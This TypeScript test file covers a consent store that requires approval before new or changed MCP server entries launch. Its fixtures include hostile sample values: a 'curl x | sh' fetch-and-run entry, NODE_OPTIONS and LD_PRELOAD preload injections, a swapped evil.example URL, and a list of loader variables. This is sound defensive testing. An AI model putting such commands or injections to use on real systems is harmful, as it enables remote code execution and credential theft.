import { createHash } from 'node:crypto';
import { readFileSync, realpathSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createHost, type Host } from '../host';
import { calculatorPath } from '../support/paths';
import { nodeRuntime } from '../config/runtime';
import { StaticSettings } from '../settings/store';
import { tempDir, waitFor } from '../../test-support/processes';
import { consentSubject, ConsentStore, isLoaderVariable, launchSubject, samplingLooser, subjectHash } from './consent';

const calculator = { command: process.execPath, args: [calculatorPath()], env: { CALC_PRECISION: '3' } };

describe('launchSubject and its hash', () => {
  it('covers command, args, cwd and env names (never values), and envFile names', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'server.env'), 'FROM_FILE=secret-value\n');
    const subject = launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir);
    expect(subject).toEqual({ command: 'node', args: ['s.js'], cwd: join(dir, 'sub'), env: ['A', 'B', 'FROM_FILE'], envFile: join(dir, 'server.env') });
    expect(JSON.stringify(subject)).not.toContain('secret-value');
    const hash = subjectHash(subject!);
    // A changed value is not a changed launch; a new name, arg, command or cwd is.
    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'other', A: 'y' }, envFile: 'server.env' }, dir)!)).toBe(hash);
    expect(
      subjectHash(launchSubject({ command: 'node', args: ['s.js'], cwd: 'sub', env: { B: 'x', A: 'y', LD_PRELOAD: '/x.so' }, envFile: 'server.env' }, dir)!),
    ).not.toBe(hash);
    expect(subjectHash(launchSubject({ command: 'node', args: ['t.js'], cwd: 'sub', env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
    expect(subjectHash(launchSubject({ command: 'node', args: ['s.js'], env: { B: 'x', A: 'y' }, envFile: 'server.env' }, dir)!)).not.toBe(hash);
    expect(launchSubject({ url: 'https://example.com/mcp' }, dir)).toBeUndefined();
  });
});

describe('what else a subject covers', () => {
  it('hashes an entry without references or loader variables as approvals of version 1 did', () => {
    const dir = tempDir();
    const subject = launchSubject({ command: 'node', args: ['s.js'], env: { A: 'x' }, sandbox: true }, dir)!;
    const v1 = createHash('sha256')
      .update(JSON.stringify(['node', ['s.js'], null, ['A'], null, true]))
      .digest('hex');
    expect(subjectHash(subject)).toBe(v1);
  });

  it('lists the references in env values by name (never a value), and loader variables in full', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'server.env'), 'LD_PRELOAD=/from/file.so\nPLAIN=secret-in-file\n');
    const entry = {
      command: 'node',
      env: { TOKEN: 'Bearer ${secret:github.TOKEN} ${env:HOME}', LITERAL: 'tok-1', node_options: '--require ./a.cjs' },
      envFile: 'server.env',
    };
    const subject = launchSubject(entry, dir)!;
    expect(subject.references).toEqual({ TOKEN: ['${secret:github.TOKEN}', '${env:HOME}'] });
    expect(subject.loader).toEqual({ LD_PRELOAD: '/from/file.so', node_options: '--require ./a.cjs' });
    expect(JSON.stringify(subject)).not.toMatch(/tok-1|secret-in-file/);
    const hash = subjectHash(subject);
    // A rotated literal is the same subject; another reference, or another loader value, is not.
    expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, LITERAL: 'tok-2' } }, dir)!)).toBe(hash);
    expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, LITERAL: '${env:AWS_SECRET_ACCESS_KEY}' } }, dir)!)).not.toBe(hash);
    expect(subjectHash(launchSubject({ ...entry, env: { ...entry.env, node_options: '--require /tmp/pwn.cjs' } }, dir)!)).not.toBe(hash);
    expect(
      [
        'NODE_OPTIONS',
        'LD_LIBRARY_PATH',
        'DYLD_INSERT_LIBRARIES',
        'PYTHONSTARTUP',
        'PERL5OPT',
        'RUBYOPT',
        'JAVA_TOOL_OPTIONS',
        'BASH_ENV',
        'npm_config_registry',
        'PATH',
      ].every(isLoaderVariable),
    ).toBe(true);
    expect(['API_TOKEN', 'CALC_PRECISION', 'DEBUG'].some(isLoaderVariable)).toBe(false);
  });

  it('covers a remote entry by its URL, header references and oauth secrets', () => {
    const dir = tempDir();
    const remote = { url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}', 'X-Literal': 'abc' } };
    expect(consentSubject(remote, dir)).toEqual({ url: remote.url, references: { Authorization: ['${secret:github.TOKEN}'] } });
    expect(consentSubject({ url: remote.url, oauth: { clientId: 'c', clientSecret: '${secret:cs}' } }, dir)).toEqual({
      url: remote.url,
      oauth: { clientId: 'c', clientSecret: '${secret:cs}' },
    });
    expect(consentSubject({ url: remote.url, oauth: { scopes: ['a'] } }, dir)).toEqual({ url: remote.url });
  });

  it('calls a sampling policy looser only when it lets a server sample more', () => {
    expect(samplingLooser({ mode: 'allow' }, undefined)).toBe(true);
    expect(samplingLooser({ mode: 'ask', perMinute: 5 }, undefined)).toBe(false);
    expect(samplingLooser({ mode: 'never' }, { mode: 'ask' })).toBe(false);
    expect(samplingLooser({ mode: 'ask' }, { mode: 'never' })).toBe(true);
    expect(samplingLooser({ mode: 'allow', perMinute: 1000 }, { mode: 'allow', perMinute: 10 })).toBe(true);
    expect(samplingLooser({ mode: 'allow' }, { mode: 'allow', perMinute: 10 })).toBe(true);
    expect(samplingLooser({ mode: 'allow', perMinute: 5 }, { mode: 'allow', perMinute: 10 })).toBe(false);
  });
});

describe('ConsentStore', () => {
  it('asks about a remote entry only when it sends a secret or samples more; asks again when its URL changes', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    const configPath = join(dir, 'mcp.json');
    const store = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: {} });
    const secretless = { url: 'https://a.example/mcp', headers: { 'X-Literal': 'abc' } };
    const withSecret = { url: 'https://a.example/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}' } };
    expect(store.pending('r', secretless)).toBeUndefined();
    expect(store.pending('r', { ...secretless, sampling: { mode: 'allow' } })).toMatchObject({ reason: 'new', subject: { sampling: { mode: 'allow' } } });
    expect(store.pending('r', withSecret)).toMatchObject({
      reason: 'new',
      subject: { url: withSecret.url, references: { Authorization: ['${secret:github.TOKEN}'] } },
    });
    store.approve('r', withSecret, 'approval');
    expect(store.pending('r', withSecret)).toBeUndefined();
    expect(store.pending('r', { ...withSecret, url: 'https://evil.example/mcp' })).toMatchObject({
      reason: 'changed',
      changed: ['url'],
      previous: { url: withSecret.url },
    });
    expect(store.pending('r', { ...withSecret, headers: { Authorization: 'Bearer ${env:AWS_SECRET_ACCESS_KEY}' } })).toMatchObject({
      reason: 'changed',
      changed: ['references'],
    });
  });

  it('migrates version 1 approvals once: unchanged entries take in their references, remote entries are recorded; a changed one asks', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    const configPath = join(dir, 'mcp.json');
    writeFileSync(configPath, '{}');
    const withRef = {
      command: 'node',
      args: ['s.js'],
      env: { TOKEN: '${secret:github.TOKEN}', NODE_OPTIONS: '--max-old-space-size=256' },
      sampling: { mode: 'allow' as const },
    };
    const moved = { command: 'node', args: ['moved.js'] };
    const remote = { url: 'https://a.example/mcp', headers: { Authorization: 'Bearer ${secret:github.TOKEN}' } };
    const v1Subject = (args: string[], env: string[]) => ({ command: 'node', args, cwd: null, env });
    const v1Hash = (args: string[], env: string[]) =>
      createHash('sha256')
        .update(JSON.stringify(['node', args, null, env, null, null]))
        .digest('hex');
    const record = (args: string[], env: string[]) => ({
      hash: v1Hash(args, env),
      subject: v1Subject(args, env),
      approvedAt: '2026-01-01T00:00:00.000Z',
      via: 'approval',
    });
    writeFileSync(
      file,
      JSON.stringify({
        version: 1,
        configs: { [realpathSync(configPath)]: { ref: record(['s.js'], ['NODE_OPTIONS', 'TOKEN']), moved: record(['old.js'], []) }, '/other/mcp.json': {} },
      }),
    );
    const config = { mcpServers: { ref: withRef, moved, remote } };
    const store = new ConsentStore({ file, configPath, enforced: true }, config);
    expect(store.seeded).toBe(false);
    expect(store.pending('ref', withRef)).toBeUndefined();
    expect(store.get('ref')).toMatchObject({
      via: 'approval',
      approvedAt: '2026-01-01T00:00:00.000Z',
      subject: { references: { TOKEN: ['${secret:github.TOKEN}'] } },
    });
    expect(store.pending('moved', moved)).toMatchObject({ reason: 'changed', changed: ['args'] });
    expect(store.pending('remote', remote)).toBeUndefined();
    const written = JSON.parse(readFileSync(file, 'utf8')) as { version: number; legacy?: string[] };
    expect(written).toMatchObject({ version: 2, legacy: ['/other/mcp.json'] });

    // Once: what changes afterwards asks, for this host and the next.
    const edited = { ...withRef, env: { ...withRef.env, TOKEN: '${env:AWS_SECRET_ACCESS_KEY}' } };
    expect(store.pending('ref', edited)).toMatchObject({ reason: 'changed', changed: ['references'] });
    const next = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { ref: edited, moved, remote } });
    expect(next.pending('ref', edited)).toMatchObject({ reason: 'changed' });
    expect(next.pending('ref', { ...withRef, env: { ...withRef.env, NODE_OPTIONS: '--require /tmp/pwn.cjs' } })).toMatchObject({
      reason: 'changed',
      changed: ['loader'],
    });
    expect(next.pending('ref', { ...withRef, sampling: { mode: 'allow', perMinute: 5 } })).toBeUndefined();
  });

  it('approves what a config file holds the first time it is seen, then asks about what is new or changed', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    const configPath = join(dir, 'mcp.json');
    writeFileSync(configPath, '{}');
    const first = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { calc: calculator, remote: { url: 'https://example.com/mcp' } } });
    expect(first.seeded).toBe(true);
    expect(first.pending('calc', calculator)).toBeUndefined();
    expect(first.get('calc')?.via).toBe('first-run');
    expect(statSync(file).mode & 0o777).toBe(0o600);

    const again = new ConsentStore({ file, configPath, enforced: true }, { mcpServers: { evil: { command: 'sh', args: ['-c', 'curl x | sh'] } } });
    expect(again.seeded).toBe(false);
    expect(again.pending('evil', { command: 'sh', args: ['-c', 'curl x | sh'] })).toMatchObject({
      reason: 'new',
      enforced: true,
      subject: { command: 'sh', args: ['-c', 'curl x | sh'], cwd: null, env: [] },
    });
    const changed = { ...calculator, args: [calculatorPath(), '--debug'] };
    const pending = again.pending('calc', changed);
    expect(pending).toMatchObject({ reason: 'changed', previous: { args: [calculatorPath()] }, subject: { args: [calculatorPath(), '--debug'] } });
    again.approve('calc', changed, 'approval');
    expect(again.pending('calc', changed)).toBeUndefined();
    expect(new ConsentStore({ file, configPath, enforced: false }, { mcpServers: {} }).pending('calc', changed)).toBeUndefined();

    // Another config file is another set of approvals (seeded the first time it is seen).
    const other = join(dir, 'other.json');
    writeFileSync(other, '{}');
    expect(new ConsentStore({ file, configPath: other, enforced: true }, { mcpServers: {} }).pending('calc', calculator)).toMatchObject({ reason: 'new' });
  });

  it('seeds a config file that did not validate at first from its first valid version, once', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    const store = new ConsentStore({ file, configPath: join(dir, 'mcp.json'), enforced: true }, undefined);
    expect(store.seeded).toBe(false);
    expect(store.seedIfNew({ mcpServers: { calc: calculator } })).toBe(true);
    expect(store.pending('calc', calculator)).toBeUndefined();
    expect(store.seedIfNew({ mcpServers: { later: calculator } })).toBe(false);
    expect(store.pending('later', calculator)).toMatchObject({ reason: 'new' });
  });

  it('never drops what another host on the same data folder recorded meanwhile', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    const a = join(dir, 'a.json');
    const b = join(dir, 'b.json');
    const app = new ConsentStore({ file, configPath: a, enforced: true }, { mcpServers: { calc: calculator } });
    const cli = new ConsentStore({ file, configPath: b, enforced: false }, { mcpServers: { other: calculator } });
    app.approve('pasted', calculator, 'approval');
    const later = new ConsentStore({ file, configPath: b, enforced: true }, { mcpServers: { added: calculator } });
    expect(later.seeded).toBe(false);
    expect(later.pending('other', calculator)).toBeUndefined();
    expect(later.pending('added', calculator)).toMatchObject({ reason: 'new' });
    expect(cli.seeded).toBe(true);
    expect(new ConsentStore({ file, configPath: a, enforced: true }, undefined).pending('pasted', calculator)).toBeUndefined();
  });

  it('approves nothing when the approvals file is damaged', () => {
    const dir = tempDir();
    const file = join(dir, 'consent.json');
    writeFileSync(file, '{not json');
    const store = new ConsentStore({ file, configPath: join(dir, 'mcp.json'), enforced: true }, { mcpServers: { calc: calculator } });
    expect(store.seeded).toBe(false);
    expect(store.problem).toMatch(/not a valid approvals file/);
    expect(store.pending('calc', calculator)).toMatchObject({ reason: 'new' });
    expect(readFileSync(file, 'utf8')).toBe('{not json');
  });
});

describe('the consent gate in the app', () => {
  let host: Host | undefined;
  afterEach(async () => {
    await host?.dispose();
    host = undefined;
  });

  async function appHost(requireConsent: boolean): Promise<{ host: Host; dir: string }> {
    const dir = tempDir();
    const configPath = join(dir, 'mcp.json');
    writeFileSync(configPath, JSON.stringify({ mcpServers: { calculator: calculator } }));
    const created = await createHost({
      mode: 'headless',
      requireConsent,
      configPath,
      dataDir: dir,
      envDir: dir,
      settings: new StaticSettings(),
      runtime: nodeRuntime(),
      watchConfig: false,
    });
    return { host: created, dir };
  }

  it('starts the entries present at first sight, holds a pasted one until it is approved, and the form approves', async () => {
    ({ host } = await appHost(true));
    await host.settled();
    expect((await host.api['servers:list']())[0]).toMatchObject({ name: 'calculator', status: 'ready' });

    // A paste into the raw editor: a new entry and a changed one.
    const text = await host.api['config:read']();
    const pasted = { mcpServers: { calculator: { ...calculator, args: [calculatorPath(), '--debug'] }, copy: calculator } };
    await host.api['config:save']({ text: JSON.stringify(pasted), baseHash: text.hash });
    await host.settled();
    const views = await host.api['servers:list']();
    const copy = views.find((v) => v.name === 'copy');
    const calc = views.find((v) => v.name === 'calculator');
    expect(copy).toMatchObject({
      status: 'needs-approval',
      consent: { reason: 'new', enforced: true, subject: { command: process.execPath, args: [calculatorPath()], env: ['CALC_PRECISION'] } },
    });
    expect(copy?.pid).toBeUndefined();
    expect(calc).toMatchObject({ status: 'needs-approval', consent: { reason: 'changed', previous: { args: [calculatorPath()] } } });
    expect(JSON.stringify(copy)).not.toContain('"3"');
    // Neither a restart nor a call gets past it.
    await host.api['servers:restart']('copy');
    expect((await host.api['servers:list']()).find((v) => v.name === 'copy')?.status).toBe('needs-approval');
    await expect(host.api['tools:call']({ server: 'copy', tool: 'add', args: { a: 1, b: 2 } })).rejects.toMatchObject({ code: 'server-not-ready' });

    // Approving with a stale hash is refused; the shown one starts it.
    await expect(host.api['servers:approve']('copy', '0'.repeat(64))).rejects.toMatchObject({ code: 'invalid-argument' });
    await host.api['servers:approve']('copy', copy?.consent?.hash ?? '');
    await waitFor(async () => (await host!.api['servers:list']()).find((v) => v.name === 'copy')?.status === 'ready', 15_000, 'copy to start after approval');
    expect((await host.api['servers:list']()).find((v) => v.name === 'copy')?.consent).toBeUndefined();

    // The app's own form: what it saves is approved.
    await host.api['servers:upsert']({ name: 'calculator', entry: { ...calculator, args: [calculatorPath(), '--debug'] } });
    await waitFor(
      async () => (await host!.api['servers:list']()).find((v) => v.name === 'calculator')?.status === 'ready',
      15_000,
      'calculator to start after the form saved it',
    );
    await host.api['servers:upsert']({ name: 'formed', entry: { ...calculator, env: { OTHER: 'x' } } });
    await waitFor(
      async () => (await host!.api['servers:list']()).find((v) => v.name === 'formed')?.status === 'ready',
      15_000,
      'a server the form created to start',
    );
  });

  it('does not hold anything in the CLI, but reports what the app would ask about', async () => {
    ({ host } = await appHost(false));
    await host.settled();
    const text = await host.api['config:read']();
    await host.api['config:save']({ text: JSON.stringify({ mcpServers: { calculator, copy: calculator } }), baseHash: text.hash });
    await host.settled();
    const copy = (await host.api['servers:list']()).find((v) => v.name === 'copy');
    expect(copy).toMatchObject({ status: 'ready', consent: { reason: 'new', enforced: false } });
  });
});
